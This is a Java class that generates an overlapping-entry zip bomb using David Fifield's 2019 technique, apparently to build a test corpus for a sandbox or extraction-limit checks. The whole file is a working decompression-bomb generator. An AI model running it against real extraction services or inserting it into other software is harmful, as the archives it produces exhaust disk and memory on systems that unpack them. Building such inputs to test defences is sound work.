package org.junitsandbox.corpus;

import java.util.ArrayDeque;
import java.util.Deque;
import java.util.Locale;
import java.util.zip.CRC32;

/**
 * A zip archive whose entries all end with the same packed zeros. In front of them, each entry has the headers of all
 * later entries, as data: so no two entries begin at the same place, and every checksum is right. The idea is David
 * Fifield's (A better zip bomb, 2019).
 */
final class QuotedZip {

    private QuotedZip() {}

    static byte[] of(int entries, long zeros) {
        Packed kernel = new Deflate().run(0, zeros).finish();
        Deque<ZipMember> members = new ArrayDeque<>();
        byte[] packed = kernel.bytes();
        Bytes quoted = new Bytes();
        for (int i = entries - 1; i >= 0; i--) {
            ZipMember member = member(i, packed, quoted.toArray(), zeros);
            members.addFirst(member);
            byte[] header = member.localHeader();
            packed = new Bytes().raw(block(header)).raw(packed).toArray();
            quoted = new Bytes().raw(header).raw(quoted.toArray());
        }
        return archive(members);
    }

    private static ZipMember member(int number, byte[] packed, byte[] quoted, long zeros) {
        CRC32 crc = new CRC32();
        crc.update(quoted);
        crc.update(new byte[(int) zeros]);
        byte[] name = Bytes.utf8(String.format(Locale.ROOT, "%03d", number));
        return ZipMember.file(name, packed).both(header -> {
            header.method = ZipMember.DEFLATED;
            header.crc = crc.getValue();
            header.size = quoted.length + zeros;
        });
    }

    /** The beginning of a deflate block that is copied. */
    private static byte[] block(byte[] header) {
        return new Bytes()
                .raw(0)
                .little(2, header.length)
                .little(2, ~header.length)
                .raw(header)
                .toArray();
    }

    private static byte[] archive(Deque<ZipMember> members) {
        ZipMember first = members.getFirst();
        ZipArchive archive = ZipArchive.with().gap(first.localBytes());
        long offset = 0;
        for (ZipMember member : members) {
            archive.listOnly(member, offset);
            // The next header is quoted behind this one and the five bytes of a block.
            offset += member.localHeader().length + 5L;
        }
        return archive.toArray();
    }
}
